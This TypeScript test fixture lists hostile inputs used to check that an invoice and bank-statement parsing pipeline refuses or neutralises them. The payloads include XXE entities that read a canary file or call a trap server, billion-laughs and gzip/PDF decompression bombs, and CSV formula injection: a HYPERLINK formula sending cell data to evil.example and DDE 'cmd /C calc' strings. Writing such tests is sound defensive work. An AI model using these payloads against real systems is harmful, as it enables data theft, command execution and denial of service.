import { gzipSync } from 'node:zlib';
import { corpusSample } from '../../support/corpus.ts';
import { buildPdf, zerosZlib } from '../invoices/helpers.ts';

/**
 * The hostile-input table: one row per attack class. A new class is one row: how to build the bytes
 * (from the canary file and the trap server's address), which pipeline reads them, and what refusal or
 * flag proves it was caught.
 */

/** What a row may point at: a file whose content must never surface, and a server that must get no call. */
export interface HostileTargets {
  canaryPath: string;
  trapUrl: string;
}

export type HostileKind = 'invoice' | 'bank';

export interface HostileInput {
  name: string;
  kind: HostileKind;
  /** File name as it arrives (extension included). */
  filename: string;
  build: (targets: HostileTargets) => Uint8Array;
  /** Built from a corpus file (read when it is built): skipped on a clone without ../shared/corpus. */
  corpus: boolean;
  /**
   * How the refusal shows: for invoices the first finding's rule, for bank files the file's errors or the
   * statement's rejection reason; nothing is booked. `flagged`: a statement is rejected with that reason and
   * no line is booked twice. `neutralised`: the file may be read, but no text it yields is a spreadsheet formula.
   */
  expect: { refusal: RegExp } | { flagged: RegExp } | { neutralised: true };
}

const utf8 = (text: string) => new TextEncoder().encode(text);

// The corpus files the rows start from, read when a row is built.
const ubl = corpusSample('ubl', 'si-ubl-2.0__SI-UBL-2.0.3.2__SI-UBL-2.0_ok_base.xml');
const camt = corpusSample('camt053', 'camt_parser__valid_example_v4.xml');
const mt940 = corpusSample('mt940', 'zilverline__ing__mt940_iban.txt');
const bunq = corpusSample('bankcsv', 'bank2ynab__2018-04-14_10-52-13_bunq-transactieoverzicht.csv');
const ublText = () => ubl.text;
const ublBody = () => ubl.text.slice(ubl.text.indexOf('<Invoice'));
const camtText = () => camt.text;
const camtBody = () => camt.text.slice(camt.text.indexOf('<Document'));
const mt940Text = () => mt940.text;
const bunqCsv = () => bunq.text;

/** An XML declaration naming `encoding`, a DOCTYPE whose entity reads `system`, then the document. */
const withEntity = (encoding: string, root: string, system: string, body: string) =>
  `<?xml version="1.0" encoding="${encoding}"?>\n<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "${system}">]>\n${body.replace(/(<\w+:?\w*ID[^>]*>)[^<]*/, '$1&xxe;')}`;

const utf16 = (text: string, endian: 'le' | 'be') => {
  const units = Buffer.from(text, 'utf16le');
  if (endian === 'be') units.swap16();
  return new Uint8Array([...(endian === 'le' ? [0xff, 0xfe] : [0xfe, 0xff]), ...units]);
};

const billionLaughs = (root: string, body: string) => {
  const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join(
    '',
  );
  return `<?xml version="1.0"?>\n<!DOCTYPE ${root} [<!ENTITY l0 "lol">${levels}]>\n${body.replace(/(<\w+:?\w*ID[^>]*>)[^<]*/, '$1&l9;')}`;
};

const nested = (open: string, close: string, depth: number) =>
  `${open}${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}${close}`;

const withNul = (text: string, at: number) => {
  const bytes = utf8(text);
  return new Uint8Array([...bytes.subarray(0, at), 0, 0, 0, ...bytes.subarray(at)]);
};

const withInvalidUtf8 = (text: string, marker: string) => {
  const at = text.indexOf(marker) + marker.length;
  return new Uint8Array([...utf8(text.slice(0, at)), 0xff, 0xfe, 0xc3, 0x28, ...utf8(text.slice(at))]);
};

/** The first element `<tag>` of the text with its content replaced. */
const replaceFirst = (text: string, tag: string, value: string) =>
  text.replace(new RegExp(`(<${tag}[^>]*>)[^<]*`), `$1${value}`);

let bomb: Uint8Array | undefined;
/** 64 MB of spaces gzipped to about 64 KB, made once. */
const gzipBomb = () => {
  bomb ??= new Uint8Array(gzipSync(Buffer.alloc(64 * 1024 * 1024, 0x20)));
  return bomb;
};

const XXE_ENCODINGS = [
  { label: 'UTF-8', encode: (text: string) => utf8(text) },
  { label: 'UTF-16LE', declared: 'UTF-16', encode: (text: string) => utf16(text, 'le') },
  { label: 'UTF-16BE', declared: 'UTF-16', encode: (text: string) => utf16(text, 'be') },
  { label: 'ISO-8859-1', encode: (text: string) => new Uint8Array(Buffer.from(text, 'latin1')) },
] as const;

const xxeRows = XXE_ENCODINGS.flatMap(({ label, encode, ...rest }): HostileInput[] => {
  const declared = 'declared' in rest ? rest.declared : label;
  return [
    {
      name: `XXE reading a local file, ${label} (invoice)`,
      kind: 'invoice',
      corpus: true,
      filename: 'xxe-file.xml',
      build: ({ canaryPath }) => encode(withEntity(declared, 'Invoice', `file://${canaryPath}`, ublBody())),
      expect: { refusal: /^XML-DOCTYPE/ },
    },
    {
      name: `XXE calling a server, ${label} (invoice)`,
      kind: 'invoice',
      corpus: true,
      filename: 'xxe-http.xml',
      build: ({ trapUrl }) => encode(withEntity(declared, 'Invoice', trapUrl, ublBody())),
      expect: { refusal: /^XML-DOCTYPE/ },
    },
    {
      name: `XXE reading a local file, ${label} (camt.053)`,
      kind: 'bank',
      corpus: true,
      filename: 'xxe-file.xml',
      build: ({ canaryPath }) => encode(withEntity(declared, 'Document', `file://${canaryPath}`, camtBody())),
      expect: { refusal: /DOCTYPE is not allowed/ },
    },
    {
      name: `XXE calling a server, ${label} (camt.053)`,
      kind: 'bank',
      corpus: true,
      filename: 'xxe-http.xml',
      build: ({ trapUrl }) => encode(withEntity(declared, 'Document', trapUrl, camtBody())),
      expect: { refusal: /DOCTYPE is not allowed/ },
    },
  ];
});

export const HOSTILE_INPUTS: readonly HostileInput[] = [
  ...xxeRows,
  {
    name: 'parameter entity fetching a remote DTD (invoice)',
    kind: 'invoice',
    corpus: true,
    filename: 'param-entity.xml',
    build: ({ trapUrl }) =>
      utf8(
        `<?xml version="1.0"?>\n<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "${trapUrl}"> %remote;]>\n${ublBody()}`,
      ),
    expect: { refusal: /^XML-DOCTYPE/ },
  },
  {
    name: 'billion laughs (invoice)',
    kind: 'invoice',
    corpus: true,
    filename: 'laughs.xml',
    build: () => utf8(billionLaughs('Invoice', ublBody())),
    expect: { refusal: /^XML-DOCTYPE/ },
  },
  {
    name: 'billion laughs (camt.053)',
    kind: 'bank',
    corpus: true,
    filename: 'laughs.xml',
    build: () => utf8(billionLaughs('Document', camtBody())),
    expect: { refusal: /DOCTYPE is not allowed/ },
  },
  {
    name: 'nesting 100,000 deep (invoice)',
    kind: 'invoice',
    corpus: false,
    filename: 'deep.xml',
    build: () =>
      utf8(
        nested(
          '<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">',
          '</Invoice>',
          100_000,
        ),
      ),
    expect: { refusal: /^XML-DEPTH/ },
  },
  {
    name: 'nesting 100,000 deep (camt.053)',
    kind: 'bank',
    corpus: false,
    filename: 'deep.xml',
    build: () =>
      utf8(
        nested(
          '<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.04"><BkToCstmrStmt>',
          '</BkToCstmrStmt></Document>',
          100_000,
        ),
      ),
    expect: { refusal: /nested|deep/i },
  },
  {
    name: 'a 2 MB attribute (invoice)',
    kind: 'invoice',
    corpus: true,
    filename: 'attribute.xml',
    build: () =>
      utf8(
        ublText().replace(
          /<cbc:PayableAmount currencyID="[A-Z]{3}"/,
          `<cbc:PayableAmount currencyID="${'E'.repeat(2_000_000)}"`,
        ),
      ),
    expect: { refusal: /^BR-|^UBL-|^XML-/ },
  },
  {
    name: 'a 2 MB attribute (camt.053)',
    kind: 'bank',
    corpus: true,
    filename: 'attribute.xml',
    build: () => utf8(camtText().replace(/<Amt Ccy="[A-Z]{3}">/, `<Amt Ccy="${'E'.repeat(2_000_000)}">`)),
    expect: { refusal: /Amt Ccy "E{10,}…"|a tag has more than \d+ characters \(the limit\)/ },
  },
  {
    name: 'invalid UTF-8 (invoice)',
    kind: 'invoice',
    corpus: true,
    filename: 'bad-utf8.xml',
    build: () => withInvalidUtf8(ublText(), '<cbc:Note>'),
    expect: { refusal: /^XML-ENCODING/ },
  },
  {
    name: 'invalid UTF-8 among UTF-8 text (MT940)',
    kind: 'bank',
    corpus: true,
    filename: 'bad-utf8.sta',
    build: () => withInvalidUtf8(mt940Text().replace(':86:', ':86:Café '), ':86:Café '),
    expect: { refusal: /encoding|UTF-8|latin/i },
  },
  {
    name: 'NUL bytes (invoice)',
    kind: 'invoice',
    corpus: true,
    filename: 'nul.xml',
    build: () => withNul(ublText(), ublText().indexOf('<cbc:IssueDate>')),
    expect: { refusal: /^XML-/ },
  },
  {
    name: 'NUL bytes in a CSV amount',
    kind: 'bank',
    corpus: true,
    filename: 'nul.csv',
    build: () => {
      const amount = /"(-?\d+),(\d\d)"/.exec(bunqCsv())?.[0] ?? '';
      return utf8(bunqCsv().replace(amount, amount.replace(',', '\u0000\u0000,')));
    },
    expect: { refusal: /amount .*: not a number/ },
  },
  {
    name: 'formula injection in CSV text',
    kind: 'bank',
    corpus: true,
    filename: 'formula.csv',
    build: () =>
      utf8(
        bunqCsv()
          .replace('"invoice 410408"', '"=HYPERLINK(""http://evil.example/?""&A1,""klik"")"')
          .replace('"Quality Nuts"', '"@SUM(1+1)*cmd|\' /C calc\'!A0"')
          .replace('"Naar Bunq"', '"+1+cmd|\' /C calc\'!A0"'),
      ),
    expect: { neutralised: true },
  },
  {
    name: 'an absurd amount (invoice)',
    kind: 'invoice',
    corpus: true,
    filename: 'amount.xml',
    build: () => utf8(replaceFirst(ublText(), 'cbc:PayableAmount', '9'.repeat(400))),
    expect: { refusal: /DT-AMOUNT/ },
  },
  {
    name: 'an absurd amount in exponent form (invoice)',
    kind: 'invoice',
    corpus: true,
    filename: 'amount-exp.xml',
    build: () => utf8(replaceFirst(ublText(), 'cbc:PayableAmount', '1e308')),
    expect: { refusal: /DT-AMOUNT/ },
  },
  {
    name: 'an absurd date (invoice)',
    kind: 'invoice',
    corpus: true,
    filename: 'date.xml',
    build: () => utf8(replaceFirst(ublText(), 'cbc:IssueDate', '99999-13-45')),
    expect: { refusal: /DT-DATE/ },
  },
  {
    name: 'an absurd amount (camt.053)',
    kind: 'bank',
    corpus: true,
    filename: 'amount.xml',
    build: () => utf8(replaceFirst(camtText(), 'Amt Ccy="[A-Z]{3}"', '9'.repeat(400))),
    expect: { refusal: /Amt: amount "9{10,}…"/ },
  },
  {
    name: 'an absurd amount (MT940)',
    kind: 'bank',
    corpus: true,
    filename: 'amount.sta',
    build: () =>
      utf8(mt940Text().replace(/:61:(\d{6}(?:\d{4})?)(R?[CD])[\d,]+/, `:61:$1$2${'9'.repeat(60)},50`)),
    expect: { refusal: /lines that could not be read/ },
  },
  {
    name: 'an absurd date (camt.053)',
    kind: 'bank',
    corpus: true,
    filename: 'date.xml',
    build: () => utf8(camtText().replace(/(<BookgDt>\s*<Dt>)[^<]*/, '$12026-02-31')),
    expect: { refusal: /BookgDt "2026-02-31": not a date/ },
  },
  {
    name: 'an absurd date (MT940)',
    kind: 'bank',
    corpus: true,
    filename: 'date.sta',
    build: () => utf8(mt940Text().replace(/:61:\d{6}/, ':61:139945')),
    expect: { refusal: /lines that could not be read/ },
  },
  {
    name: 'the same camt.053 statement twice',
    kind: 'bank',
    corpus: true,
    filename: 'twice.xml',
    build: () => {
      const statement = camtText().slice(camtText().indexOf('<Stmt>'), camtText().indexOf('</Stmt>') + 7);
      return utf8(camtText().replace(statement, statement + statement));
    },
    expect: { flagged: /the same statement/i },
  },
  {
    name: 'a truncated camt.053 file',
    kind: 'bank',
    corpus: true,
    filename: 'cut.xml',
    build: () => utf8(camtText().slice(0, Math.floor(camtText().length * 0.6))),
    expect: { refusal: /cut off/ },
  },
  {
    name: 'a truncated MT940 file',
    kind: 'bank',
    corpus: true,
    filename: 'cut.sta',
    build: () => utf8(mt940Text().slice(0, mt940Text().indexOf(':62F:'))),
    expect: { refusal: /no closing balance/ },
  },
  {
    name: 'a gzip bomb (64 MB of spaces in 64 KB) as an invoice',
    kind: 'invoice',
    corpus: false,
    filename: 'invoice.xml.gz',
    build: () => gzipBomb(),
    expect: { refusal: /^XML-/ },
  },
  {
    name: 'a gzip bomb (64 MB of spaces in 64 KB) as a statement',
    kind: 'bank',
    corpus: false,
    filename: 'statement.sta.gz',
    build: () => gzipBomb(),
    expect: { refusal: /format not recognised|encoding|not valid/i },
  },
  {
    name: 'a PDF whose 4 MB content stream inflates to 1.5 GB (invoice)',
    kind: 'invoice',
    corpus: false,
    filename: 'bomb.pdf',
    build: () => buildPdf({ content: { data: zerosZlib(1536), filter: '/FlateDecode' } }),
    expect: { refusal: /^PDF-TOO-LARGE/ },
  },
  {
    name: 'a 15 MB :86: line (MT940)',
    kind: 'bank',
    corpus: true,
    filename: 'giant.sta',
    build: () => utf8(mt940Text().replace(':86:', `:86:${'X'.repeat(15 * 1024 * 1024)}`)),
    expect: { refusal: /more than \d+ characters \(the limit\)/ },
  },
  {
    name: 'a truncated invoice',
    kind: 'invoice',
    corpus: true,
    filename: 'cut.xml',
    build: () => utf8(ublText().slice(0, Math.floor(ublText().length * 0.6))),
    expect: { refusal: /^XML-MALFORMED/ },
  },
];
